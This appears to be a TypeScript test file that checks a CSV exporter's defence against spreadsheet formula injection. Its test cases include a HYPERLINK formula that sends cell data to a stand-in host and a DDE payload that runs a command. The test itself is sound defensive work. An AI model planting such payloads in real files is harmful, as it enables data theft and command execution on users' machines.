import { DuckDBInstance } from '@duckdb/node-api';
import { escapedCsvSql, escapedCsvText, isFormula, isTextColumn } from '@/engine/export/csv-cells';
import { quoteString } from '@/engine/sql/sql-text';

/** Text an attacker would store, and whether a spreadsheet would run it. */
const CASES: [string, boolean][] = [
  ['=HYPERLINK("http://evil.example/?d="&A2,"Open")', true],
  ["=cmd|' /C calc'!A0", true],
  ['+1+1', true],
  ['-2+3', true],
  ['@SUM(A1)', true],
  ['\t=1', true],
  ['\r=1', true],
  ['\0=1', true],
  // Blanks first: a spreadsheet that trims on import would find the formula.
  [' =1+1', true],
  ['   @x', true],
  ['\n\n-1', true],
  [' \t', true],
  // A line feed or a space alone, or before anything else, is text.
  ['\n', false],
  [' a', false],
  ['', false],
  ['a=1', false],
  ['1-2', false],
  ["'=1", false],
  ['＝1', false],
  ['é=', false],
  ['[=1, 2]', false],
  // Beside the SQL's first test's ranges (up to the space, `+` to `-`, `=` to `@`): in or out, no formula.
  [',1', false],
  ['>1', false],
  ['?1', false],
  ['!1', false],
  ['*1', false],
  ['.1', false],
  ['<1', false],
  ['A', false],
];

describe('CSV cells a spreadsheet cannot run (OWASP, "CSV Injection")', () => {
  it('finds the formulas', () => {
    expect(CASES.map(([text]) => [text, isFormula(text)])).toEqual(CASES);
  });

  it('quotes every text cell, doubles its quotes and puts a quote mark before a formula', () => {
    expect(escapedCsvText('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
    expect(escapedCsvText('a;=1+1')).toBe('"a;=1+1"');
    expect(escapedCsvText('')).toBe('""');
    expect(escapedCsvText('-5')).toBe('"\'-5"');
  });

  it('escapes only text: numbers, booleans, dates and timestamps are values', () => {
    const types = ['string', 'time', 'integer', 'number', 'decimal', 'boolean', 'date', 'datetime'];
    expect(types.filter((type) => isTextColumn(type as never))).toEqual(['string', 'time']);
  });

  it('decides in SQL as in JavaScript, NULL staying NULL', async () => {
    const instance = await DuckDBInstance.create(':memory:');
    const connection = await instance.connect();
    try {
      const values = CASES.map(([text], index) => `(${index}, ${sqlText(text)})`).join(', ');
      const reader = await connection.runAndReadAll(
        `SELECT ${escapedCsvSql('cell')} FROM (VALUES ${values}, (${CASES.length}, NULL)) AS v(i, cell) ORDER BY i`,
      );
      expect(reader.getRowsJS().map((row) => row[0])).toEqual([
        ...CASES.map(([text, formula]) => (formula ? `'${text}` : text)),
        null,
      ]);
    } finally {
      connection.closeSync();
      instance.closeSync();
    }
  });
});

/** A SQL expression of `text`, one literal per character, control characters (NUL included) as chr(). */
function sqlText(text: string): string {
  if (text === '') return "''";
  return [...text]
    .map((char) => (char.charCodeAt(0) < 0x20 ? `chr(${char.charCodeAt(0)})` : quoteString(char)))
    .join(' || ');
}
